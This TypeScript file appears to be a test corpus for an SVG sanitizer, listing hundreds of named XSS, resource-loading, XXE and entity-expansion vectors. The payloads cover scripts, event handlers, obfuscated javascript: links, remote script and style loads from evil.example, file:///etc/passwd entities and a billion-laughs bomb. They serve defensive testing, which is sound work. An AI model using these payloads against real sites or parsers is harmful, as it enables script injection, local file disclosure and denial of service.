/**
 * Drawings that run, load or lead away when they are opened, after the public lists: html5sec.org, the cheat sheets of
 * OWASP and PortSwigger, the tests of DOMPurify, lists of requests that SVG can make. Scripts call `alert`, addresses
 * lie at `evil.example`.
 */
export interface Vector {
  name: string
  /** the file, when it is not one drawing around `part` */ file?: string | Uint8Array
  part?: string
}

const EVIL = 'http://evil.example'
/** A browser takes a filter or a mask from the same server only. */
const OTHER = 'other.svg#y'
const XHTML = 'http://www.w3.org/1999/xhtml'
const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** A drawing with a place to click on in its middle. */
export function around(part: string, attributes = ''): string {
  return (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
    `xmlns:h="${XHTML}" width="200" height="200" ${attributes}>${part}</svg>`
  )
}

const box = (attributes: string) => `<rect width="200" height="200" ${attributes}/>`
const styled = (css: string) => `<style>${css}</style>${box('class="a"')}`
const base64 = (text: string) => Buffer.from(text).toString('base64')
const inner = around('<script>alert(1)</script>')
const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')

const SCRIPTING_SHEET =
  '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">' +
  `<html xmlns="${XHTML}"><script>alert(1)</script></html></x:template></x:stylesheet>`
const LAUGHS = Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`,
)

const PARTS: Record<string, string> = {
  // Scripts
  'script': '<script>alert(1)</script>',
  'script with a type': '<script type="text/ecmascript">alert(1)</script>',
  'script module': '<script type="module">alert(1)</script>',
  'script in CDATA': '<script><![CDATA[alert(1)]]></script>',
  'script by address': `<script href="${EVIL}/a.js"/>`,
  'script by xlink address': `<script xlink:href="${EVIL}/a.js"/>`,
  'script by data address': '<script href="data:text/javascript,alert(1)"/>',
  'script of HTML': '<h:script>alert(1)</h:script>',
  'script of HTML by address': `<h:script src="${EVIL}/a.js"/>`,
  'script with another prefix':
    '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
  'script in defs': '<defs><script>alert(1)</script></defs>',
  'script in a symbol': '<symbol id="s"><script>alert(1)</script></symbol><use href="#s"/>',
  'script in a title': '<title><script>alert(1)</script></title>',
  'script in a desc': '<desc><script>alert(1)</script></desc>',
  'script in metadata': '<metadata><script>alert(1)</script></metadata>',
  'script in a style': '<style><script>alert(1)</script></style>',
  'script in a text': '<text>a<script>alert(1)</script>b</text>',
  'script in a pattern': '<pattern id="p"><script>alert(1)</script></pattern>',
  'script in a switch': '<switch><script>alert(1)</script></switch>',
  'script in an unknown element': '<unknown><script>alert(1)</script></unknown>',
  'script in a foreign namespace': '<x:y xmlns:x="urn:x"><script>alert(1)</script></x:y>',
  'handler element':
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  'listener element': '<listener event="load" handler="#h"/><script id="h">alert(1)</script>',
  // Events
  'onload on the root': '<g/>',
  'onload on a group': '<g onload="alert(1)"/>',
  'onload with another case': '<g ONLOAD="alert(1)" onLoad="alert(1)"/>',
  'onload by references': '<g onload="&#97;lert&#x28;1)"/>',
  'onclick': box('onclick="alert(1)"'),
  'onmouseover': box('onmouseover="alert(1)"'),
  'onmousedown': box('onmousedown="alert(1)"'),
  'onpointerenter': box('onpointerenter="alert(1)"'),
  'onwheel': box('onwheel="alert(1)"'),
  'onfocus with tabindex': box('tabindex="0" autofocus="" onfocus="alert(1)"'),
  'onfocusin': box('tabindex="0" onfocusin="alert(1)"'),
  'onactivate': box('onactivate="alert(1)"'),
  'onerror of an image': `<image href="${EVIL}/x" onerror="alert(1)"/>`,
  'onerror of a data image': '<image href="data:image/png;base64,AAAA" onerror="alert(1)"/>',
  'onload of an image': `<image href="data:image/png;base64,${PIXEL}" width="9" height="9" onload="alert(1)"/>`,
  'onbegin': '<animate attributeName="x" dur="1s" onbegin="alert(1)"/>',
  'onend': '<set attributeName="x" to="1" dur="0.01s" onend="alert(1)"/>',
  'onrepeat': '<animate attributeName="x" dur="0.01s" repeatCount="3" onrepeat="alert(1)"/>',
  'onbegin of a transform':
    '<animateTransform attributeName="transform" dur="1s" onbegin="alert(1)"/>',
  'onanimationstart':
    '<style>@keyframes k{from{x:0}to{x:9px}} rect{animation:k 1s}</style>' +
    '<rect width="9" height="9" onanimationstart="alert(1)"/>',
  'ontransitionend':
    '<style>rect{transition:fill 10ms}rect:hover{fill:red}</style>' +
    '<rect width="200" height="200" ontransitionend="alert(1)"/>',
  'event of a foreign namespace':
    '<g xmlns:e="http://www.w3.org/2001/xml-events" e:onload="alert(1)"/>',
  'onload of a style': '<style onload="alert(1)">a{}</style>',
  'onload of a link': `<h:link rel="stylesheet" href="${EVIL}/a.css" onload="alert(1)" onerror="alert(1)"/>`,
  'onscroll of an HTML body': '<h:body onload="alert(1)"/>',
  'onclick of text': '<text y="100" font-size="99" onclick="alert(1)">XXXXX</text>',
  // Links
  'link to script': `<a href="javascript:alert(1)">${box('')}</a>`,
  'link to script by xlink': `<a xlink:href="javascript:alert(1)">${box('')}</a>`,
  'link to script by another prefix':
    `<a xmlns:y="http://www.w3.org/1999/xlink" y:href="javascript:alert(1)">${box('')}` + '</a>',
  'link to script with case': `<a href="JaVaScRiPt:alert(1)">${box('')}</a>`,
  'link to script with a tab': `<a href="java&#9;script:alert(1)">${box('')}</a>`,
  'link to script with a line': `<a href="java&#10;script:alert(1)">${box('')}</a>`,
  'link to script after a control': `<a href=" &#x20;javascript:alert(1)">${box('')}</a>`,
  'link to script by references': `<a href="&#106;avascript&#x3a;alert(1)">${box('')}</a>`,
  'link to vbscript': `<a href="vbscript:alert(1)">${box('')}</a>`,
  'link to data': `<a href="data:text/html,&lt;script>alert(1)&lt;/script>">${box('')}</a>`,
  'link to a data drawing': `<a href="data:image/svg+xml;base64,${base64(inner)}">${box('')}</a>`,
  'link away': `<a href="${EVIL}/">${box('')}</a>`,
  'link away with a target': `<a xlink:href="${EVIL}/" target="_blank" xlink:show="new">${box('')}</a>`,
  'link away that embeds': `<a xlink:href="${EVIL}/" xlink:actuate="onLoad" xlink:show="embed">${box('')}</a>`,
  'link that pings': `<a href="#" ping="${EVIL}/ping">${box('')}</a>`,
  'link of HTML': `<h:a href="javascript:alert(1)">click</h:a>`,
  'link around text': '<a href="javascript:alert(1)"><text y="150" font-size="99">XXXXX</text></a>',
  'link in text': '<text y="150" font-size="99"><a href="javascript:alert(1)">XXXXX</a></text>',
  'xml:base of a link': `<g xml:base="javascript:alert(1)//"><a href="#x">${box('')}</a></g>`,
  'xml:base of an image': `<g xml:base="${EVIL}/"><image href="x.png" width="9" height="9"/></g>`,
  // Animation of an address
  'animate href': `<a>${box('')}<animate attributeName="href" values="javascript:alert(1)"/></a>`,
  'animate xlink:href':
    `<a>${box('')}<animate attributeName="xlink:href" to="javascript:alert(1)" dur="1s" ` +
    'fill="freeze"/></a>',
  'animate with case':
    `<a>${box('')}<animate attributeName="HREF" values="javascript:alert(1)"/>` +
    '<animate attributeName="href" from="#" to="javascript:alert(1)" begin="0s" ' +
    'fill="freeze"/></a>',
  'animate with a prefix':
    `<a xmlns:y="http://www.w3.org/1999/xlink">${box('')}<animate attributeName="y:href" ` +
    'values="javascript:alert(1)"/></a>',
  'set href': `<a>${box('')}<set attributeName="href" to="javascript:alert(1)"/></a>`,
  'set by reference': `<a id="l">${box('')}</a><set href="#l" attributeName="href" to="javascript:alert(1)"/>`,
  'set by xlink reference':
    `<a id="l">${box('')}</a><set xlink:href="#l" attributeName="xlink:href" ` +
    'to="javascript:alert(1)"/>',
  'set an event': `<rect width="200" height="200"><set attributeName="onmouseover" to="alert(1)"/></rect>`,
  'set an image': `<image width="9" height="9"><set attributeName="href" to="${EVIL}/x.png"/></image>`,
  'animate an image':
    '<image width="9" height="9">' +
    `<animate attributeName="href" values="${EVIL}/a.png;${EVIL}/b.png" dur="1s"/>` +
    '</image>',
  'animate a fill':
    `<rect width="9" height="9"><animate attributeName="fill" values="url(${EVIL}/x#y)" ` +
    'dur="1s"/></rect>',
  'set a filter': `<rect width="9" height="9"><set attributeName="filter" to="url(${EVIL}/x#y)"/></rect>`,
  'set a style': `<rect width="9" height="9"><set attributeName="style" to="filter:url(${EVIL}/x#y)"/></rect>`,
  'animate a use':
    '<use>' +
    '<animate attributeName="href" ' +
    `values="data:image/svg+xml,${encodeURIComponent(inner)}#x"/></use>`,
  'animateMotion path':
    `<rect width="9" height="9"><animateMotion dur="1s"><mpath href="${EVIL}/x#y"/>` +
    '</animateMotion></rect>',
  'discard': '<rect id="r"/><discard href="#r" begin="0s" onbegin="alert(1)"/>',
  // Elements that load
  'image': `<image href="${EVIL}/x.png" width="9" height="9"/>`,
  'image by xlink': `<image xlink:href="${EVIL}/x.png" width="9" height="9"/>`,
  'image by another prefix':
    `<image xmlns:y="http://www.w3.org/1999/xlink" y:href="${EVIL}/x.png" width="9" ` +
    'height="9"/>',
  'image without a scheme': '<image href="//evil.example/x.png" width="9" height="9"/>',
  'image with slashes turned': String.raw`<image href="\\evil.example\x.png" width="9" height="9"/>`,
  'image with a space before': `<image href="  ${EVIL}/x.png" width="9" height="9"/>`,
  'image with a broken scheme': `<image href="ht&#10;tp://evil.example/x.png" width="9" height="9"/>`,
  'image of the folder': '<image href="secret.png" width="9" height="9"/>',
  'image of the machine': '<image href="file:///etc/passwd" width="9" height="9"/>',
  'image with srcset': `<image srcset="${EVIL}/x.png 1x" src="${EVIL}/y.png" width="9" height="9"/>`,
  'image that is a drawing': `<image href="data:image/svg+xml;base64,${base64(inner)}" width="9" height="9"/>`,
  'image that is a drawing that loads':
    '<image ' +
    'href="data:image/svg+xml,' +
    `${encodeURIComponent(around(`<image href="${EVIL}/x.png" width="9" height="9"/>`))}` +
    '" width="9" height="9"/>',
  'image that is a page':
    '<image href="data:text/html,&lt;script>alert(1)&lt;/script>" width="9" height="9"/>',
  'img of HTML': `<h:img src="${EVIL}/x.png" onerror="alert(1)"/>`,
  'img of HTML with srcset': `<h:img srcset="${EVIL}/x.png 1x"/>`,
  'picture of HTML': `<h:picture><h:source srcset="${EVIL}/x.png"/><h:img/></h:picture>`,
  'use': `<use href="${EVIL}/x.svg#y"/>`,
  'use by xlink': `<use xlink:href="${EVIL}/x.svg#y"/>`,
  'use of the folder': '<use href="other.svg#y"/>',
  'use of data': `<use href="data:image/svg+xml;base64,${base64(around('<script id="x">alert(1)</script>'))}#x"/>`,
  'feImage': `<filter id="f"><feImage href="${EVIL}/x.png"/></filter>${box('filter="url(#f)"')}`,
  'feImage by xlink': `<filter id="f"><feImage xlink:href="${EVIL}/x.png"/></filter>${box('filter="url(#f)"')}`,
  'gradient': `<linearGradient id="g" href="${EVIL}/x.svg#y"/>${box('fill="url(#g)"')}`,
  'pattern': `<pattern id="p" xlink:href="${EVIL}/x.svg#y"/>${box('fill="url(#p)"')}`,
  'textPath': `<text><textPath href="${EVIL}/x.svg#y">a</textPath></text>`,
  'tref': `<text><tref xlink:href="${EVIL}/x.svg#y"/></text>`,
  'mpath': `<path d="M0 0"><animateMotion><mpath xlink:href="${EVIL}/x.svg#y"/></animateMotion></path>`,
  'font-face-uri':
    '<font-face font-family="x"><font-face-src>' +
    `<font-face-uri xlink:href="${EVIL}/x.svg#y"/></font-face-src></font-face>` +
    '<text font-family="x" y="9">a</text>',
  'color-profile': `<color-profile name="x" xlink:href="${EVIL}/x.icc"/>`,
  'cursor element': `<cursor id="c" xlink:href="${EVIL}/x.png"/>${box('cursor="url(#c)"')}`,
  'iframe': `<iframe xmlns="${XHTML}" src="${EVIL}/"/>`,
  'iframe of a page': `<h:iframe srcdoc="&lt;script>alert(1)&lt;/script>"/>`,
  'iframe of script': '<h:iframe src="javascript:alert(1)"/>',
  'embed': `<h:embed src="${EVIL}/"/>`,
  'object': `<h:object data="${EVIL}/"/>`,
  'audio': `<h:audio src="${EVIL}/x.mp3" autoplay="" onerror="alert(1)"/>`,
  'video': `<h:video src="${EVIL}/x.mp4" poster="${EVIL}/x.png" onerror="alert(1)"/>`,
  'video of the old drafts': `<video xlink:href="${EVIL}/x.mp4"/><audio xlink:href="${EVIL}/x.mp3"/>`,
  'link of HTML that styles': `<h:link rel="stylesheet" href="${EVIL}/a.css"/>`,
  'link of HTML that prepares':
    `<h:link rel="preload" as="image" href="${EVIL}/x.png"/>` +
    `<h:link rel="prefetch" href="${EVIL}/y"/>` +
    '<h:link rel="dns-prefetch" href="//evil.example"/>',
  'link of HTML with an icon': `<h:link rel="icon" href="${EVIL}/x.ico"/>`,
  'base of HTML': `<h:base href="${EVIL}/"/><image href="x.png" width="9" height="9"/>`,
  'meta refresh': `<h:meta http-equiv="refresh" content="0;url=${EVIL}/"/>`,
  'meta refresh to script': '<h:meta http-equiv="refresh" content="0;url=javascript:alert(1)"/>',
  'form':
    `<h:form action="${EVIL}/"><h:input type="image" src="${EVIL}/x.png"/>` +
    '<h:button formaction="javascript:alert(1)">a</h:button></h:form>',
  'foreignObject with a page':
    `<foreignObject width="200" height="200"><body xmlns="${XHTML}" onload="alert(1)">` +
    `<img src="${EVIL}/x.png" onerror="alert(1)"/><script>alert(1)</script></body>` +
    '</foreignObject>',
  'foreignObject with an iframe':
    '<foreignObject width="200" height="200">' +
    `<iframe xmlns="${XHTML}" src="javascript:alert(1)"/></foreignObject>`,
  'foreignObject with a link':
    '<foreignObject width="200" height="200">' +
    `<a xmlns="${XHTML}" href="javascript:alert(1)" ` +
    'style="display:block;height:200px">click</a></foreignObject>',
  'foreignObject with a style':
    '<foreignObject width="200" height="200">' +
    `<div xmlns="${XHTML}" style="background:url(${EVIL}/x.png)">a<style>@import ` +
    `"${EVIL}/a.css";</style></div></foreignObject>`,
  'foreignObject in a switch':
    '<switch><foreignObject width="9" height="9">' +
    `<script xmlns="${XHTML}">alert(1)</script></foreignObject><text>a</text></switch>`,
  'math':
    '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mtext>click</mtext></math>',
  'XSL transform':
    '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform">' +
    `<x:import href="${EVIL}/x.xsl"/></x:stylesheet>`,
  'XInclude': `<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="${EVIL}/x.xml"/>`,
  // Styles
  'style import': styled(`@import "${EVIL}/a.css";`),
  'style import by url': styled(`@import url(${EVIL}/a.css);`),
  'style import with escapes': styled(String.raw`@im\70ort "${EVIL}/a.css";`),
  'style import in CDATA': styled(`<![CDATA[@import "${EVIL}/a.css";]]>`),
  'style import by references': styled(`&#64;import "${EVIL}/a.css";`),
  'style import split by a comment': styled(`@imp<!-- -->ort "${EVIL}/a.css";`),
  'style import after a charset': styled(`@charset "utf-8"; @import '${EVIL}/a.css' screen;`),
  'style import in a layer': styled(
    `@import url("${EVIL}/a.css") layer(x) supports(display: grid);`,
  ),
  'style font': `<style>@font-face{font-family:x;src:url(${EVIL}/x.woff)}</style><text y="20" font-family="x">a</text>`,
  'style font with escapes':
    String.raw`<style>@f\6fnt-face{font-family:x;src:u\72l(${EVIL}/x.woff)}</style>` +
    '<text y="20" font-family="x">a</text>',
  'style font in media':
    `<style>@media all{@font-face{font-family:x;src:url(${EVIL}/x.woff)}}</style>` +
    '<text y="20" font-family="x">a</text>',
  'style fill': styled(`.a{fill:url(${EVIL}/x.svg#y)}`),
  'style filter': styled(`.a{filter:url(${OTHER})}`),
  'style filter with a quote': styled(`.a{filter:url("${OTHER}")}`),
  'style filter with escapes': styled(String.raw`.a{filter:u\72l(${OTHER})}`),
  'style filter with a longer escape': styled(String.raw`.a{filter:\000075 rl(${OTHER})}`),
  'style filter with an escaped address': styled(String.raw`.a{filter:url(\6fther.svg#y)}`),
  'style filter with case': styled(`.a{FILTER:URL(${OTHER})}`),
  'style filter without an end': styled(`.a{filter:url(${OTHER}`),
  'style mask': styled(`.a{mask:url(${OTHER})}`),
  'style mask image': styled(`.a{mask-image:url(${EVIL}/x.png)}`),
  'style mask of WebKit': styled(
    `.a{-webkit-mask:url(${EVIL}/x.png);-webkit-mask-box-image:url(${EVIL}/y.png)}`,
  ),
  'style clip path': styled(`.a{clip-path:url(${OTHER})}`),
  'style marker': `<style>path{marker:url(${OTHER})}</style><path d="M0 0L9 9"/>`,
  'style cursor': styled(`.a{cursor:url(${EVIL}/x.png),auto}`),
  'style background': `<style>svg{background:url(${EVIL}/x.png)}</style>`,
  'style background image set': `<style>svg{background:image-set("${EVIL}/x.png" 1x)}</style>`,
  'style background image set of WebKit':
    '<style>svg{background-image:' + `-webkit-image-set(url(${EVIL}/x.png) 1x)}</style>`,
  'style background cross-fade':
    `<style>svg{background-image:-webkit-cross-fade(url(${EVIL}/x.png),` +
    `url(${EVIL}/y.png),50%)}</style>`,
  'style background by src': `<style>svg{background-image:src("${EVIL}/x.png")}</style>`,
  'style list image': `<style>svg{display:list-item;list-style:url(${EVIL}/x.png)}</style>`,
  'style content': `<style>svg{content:url(${EVIL}/x.png)} svg::before{content:url(${EVIL}/y.png)}</style>`,
  'style border image': `<style>svg{border:9px solid;border-image:url(${EVIL}/x.png) 9}</style>`,
  'style shape outside': `<style>svg{float:left;shape-outside:url(${EVIL}/x.png)}</style>`,
  'style offset path': styled(`.a{offset-path:url(${OTHER})}`),
  'style own property': styled(`:root{--x:url(${OTHER})} .a{filter:var(--x)}`),
  'style own property with a fallback': styled(`.a{filter:var(--none, url(${OTHER}))}`),
  'style registered property': styled(
    `@property --x{syntax:"*";inherits:true;initial-value:url(${EVIL}/x.png)} svg{background:var(--x)}`,
  ),
  'style keyframes': styled(
    `@keyframes k{from{filter:url(${OTHER})}to{fill:red}} .a{animation:k 1s infinite}`,
  ),
  'style in media': styled(`@media all{.a{filter:url(${OTHER})}}`),
  'style in supports': styled(`@supports (fill:red){.a{filter:url(${OTHER})}}`),
  'style in a layer': styled(`@layer a{.a{filter:url(${OTHER})}}`),
  'style nested': styled(`.a{fill:red;&amp;:not(b){filter:url(${OTHER})}}`),
  'style on hover': styled(`.a:hover{filter:url(${OTHER})}`),
  'style behind a comment': styled(`/*&lt;/style>*/ .a{filter:/**/url(/**/);filter:url(${OTHER})}`),
  'style behind a broken string': styled(`.b{fill:"\n} .a{filter:url(${OTHER})}`),
  'style of another prefix':
    `<s:style xmlns:s="http://www.w3.org/2000/svg">.a{filter:url(${OTHER})}</s:style>` +
    `${box('class="a"')}`,
  'style of HTML': `<h:style>.a{filter:url(${OTHER})}</h:style>${box('class="a"')}`,
  'style expression': styled(
    '.a{width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example/x#y)}',
  ),
  'style url of script': '<style>svg{background:url(javascript:alert(1))}</style>',
  'style namespace': styled(`@namespace url(${EVIL}/); @import "${EVIL}/a.css";`),
  'style attribute': box(`style="filter:url(${OTHER})"`),
  'style attribute with escapes': box(String.raw`style="filter:u\72l(${OTHER})"`),
  'style attribute with quotes': box(`style="filter:url(&quot;${OTHER}&quot;)"`),
  'style attribute with an own property': box(`style="--a:url(${OTHER});mask:var(--a)"`),
  'style attribute with a bad start': box(`style="};filter:url(${OTHER})"`),
  'style attribute on the root': '<g/>',
  // Attributes that style
  'attribute fill': box(`fill="url(${EVIL}/x.svg#y)"`),
  'attribute fill with a fallback': box(`fill="url(${OTHER}) red"`),
  'attribute stroke': box(`stroke="url('${OTHER}')"`),
  'attribute filter': box(`filter="url(${OTHER})"`),
  'attribute filter with escapes': box(String.raw`filter="u\72l(${OTHER})"`),
  'attribute filter in a list': box(`filter="blur(1px) url(${OTHER})"`),
  'attribute mask': box(`mask="url(${OTHER})"`),
  'attribute clip-path': box(`clip-path="url(${OTHER})"`),
  'attribute marker-end': `<path d="M0 0L9 9" marker-end="url(${OTHER})"/>`,
  'attribute cursor': box(`cursor="url(${EVIL}/x.png), auto"`),
  'attribute of the folder': box('filter="url(other.svg#y)"'),
  'attribute without a scheme': box('filter="url(//evil.example/x.svg#y)"'),
}

const ROOTS: Record<string, string> = {
  'onload on the root': 'onload="alert(1)"',
  'style attribute on the root': `style="background:url(${EVIL}/x.png)"`,
}

/** Whole files: what stands before a drawing, other encodings, other languages. */
const FILES: Record<string, string | Uint8Array> = {
  'style sheet instruction':
    '<?xml version="1.0"?>' +
    `<?xml-stylesheet href="${EVIL}/a.css" type="text/css"?>${around(box(''))}`,
  'style sheet instruction of XSL':
    '<?xml version="1.0"?>' +
    `<?xml-stylesheet href="${EVIL}/a.xsl" type="text/xsl"?>${around(box(''))}`,
  'style sheet instruction with data':
    '<?xml-stylesheet type="text/xsl" ' +
    `href="data:text/xml,${encodeURIComponent(SCRIPTING_SHEET)}"?>${around(box(''))}`,
  'style sheet instruction without version': `<?xml-stylesheet href="${EVIL}/a.css"?>${around(box(''))}`,
  'entity with markup':
    '<!DOCTYPE svg ' +
    `[<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>alert(1)</script>">]>` +
    around('&x;'),
  'entity in an attribute': `<!DOCTYPE svg [<!ENTITY x "alert(1)">]>${around('<g onload="&x;"/>')}`,
  'entity for a scheme': `<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]>${around(`<a href="&x;">${box('')}</a>`)}`,
  'entity for a namespace':
    '<!DOCTYPE svg [<!ENTITY s "http://www.w3.org/2000/svg">]>' +
    '<s:svg xmlns:s="&s;" width="200" height="200"><s:script>alert(1)</s:script></s:svg>',
  'entity of entities':
    '<!DOCTYPE svg [<!ENTITY a "&#60;script>alert(1)&#60;/script>">' +
    `<!ENTITY b "&a;">]>${around('&b;')}`,
  'entity from outside': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/x">]>${around('<text y="20">&x;</text>')}`,
  'entity of the machine':
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + around('<text y="20">&x;</text>'),
  'parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${EVIL}/x.dtd"> %x;]>${around(box(''))}`,
  'document type from outside': `<!DOCTYPE svg SYSTEM "${EVIL}/x.dtd">${around(box(''))}`,
  'attribute by the document type': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${around(box(''))}`,
  'address by the document type':
    `<!DOCTYPE svg [<!ATTLIST image href CDATA "${EVIL}/x.png">]>` +
    around('<image width="9" height="9"/>'),
  'many laughs':
    `<!DOCTYPE svg [<!ENTITY a "ha">${LAUGHS.join('')}]>` +
    around('<text y="20">&j;</text><script>alert(1)</script>'),
  'UTF-16': utf16(around('<script>alert(1)</script>')),
  'UTF-16 with a declaration': utf16(
    `<?xml version="1.0" encoding="UTF-16"?>${around('<script>alert(1)</script>')}`,
  ),
  'UTF-8 with a mark': `\uFEFF${around('<script>alert(1)</script>')}`,
  'UTF-7': `<?xml version="1.0" encoding="UTF-7"?>${around('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
  'Latin 1': `<?xml version="1.0" encoding="ISO-8859-1"?>${around('<script>alert(1)</script>')}`,
  'XML 1.1': `<?xml version="1.1"?>${around('<script>alert(1)</script>')}`,
  'another prefix for all':
    '<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)" width="200" ' +
    'height="200"><s:script>alert(1)</s:script></s:svg>',
  'a drawing within a drawing': around(around('<script>alert(1)</script>')),
  'a page': `<html xmlns="${XHTML}"><head><script>alert(1)</script></head><body><svg/></body></html>`,
  'a page named svg': `<svg xmlns="${XHTML}"><script>alert(1)</script></svg>`,
  'a page around a drawing': `<html xmlns="${XHTML}"><body>${around('')}<img src="${EVIL}/x.png"/></body></html>`,
  'a transform':
    '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">' +
    '<x:template match="/"/></x:stylesheet>',
  'HTML that is no XML': `<svg xmlns="http://www.w3.org/2000/svg"><img src=x onerror=alert(1)></svg>`,
  'a file cut short': around('<script>alert(1)</script>').slice(0, -10),
  'text after the drawing': `${around(box(''))}<script>alert(1)</script>`,
  'text before the drawing': `<script>alert(1)</script>${around(box(''))}`,
  'a comment that ends early': around('<!--><script>alert(1)</script>-->'),
  'CDATA that ends early': around('<text><![CDATA[]]><script>alert(1)</script><![CDATA[]]></text>'),
  'a comment in CDATA': around(
    '<style><![CDATA[<!--]]></style><script>alert(1)</script><text>--></text>',
  ),
  'no namespace': '<svg width="200" height="200" onload="alert(1)"><script>alert(1)</script></svg>',
  'a namespace given late':
    '<svg><script xmlns="http://www.w3.org/2000/svg">alert(1)</script></svg>',
  'SVG in capitals': '<SVG xmlns="http://www.w3.org/2000/svg"><SCRIPT>alert(1)</SCRIPT></SVG>',
}

export const vectors: Vector[] = [
  ...Object.entries(PARTS).map(([name, part]) => {
    const root = ROOTS[name]
    return root === undefined ? { name, part } : { name, file: around(part, root) }
  }),
  ...Object.entries(FILES).map(([name, file]) => ({ name, file })),
]

export function fileOf({ file, part }: Vector): string | Uint8Array {
  return file ?? around(part ?? '')
}
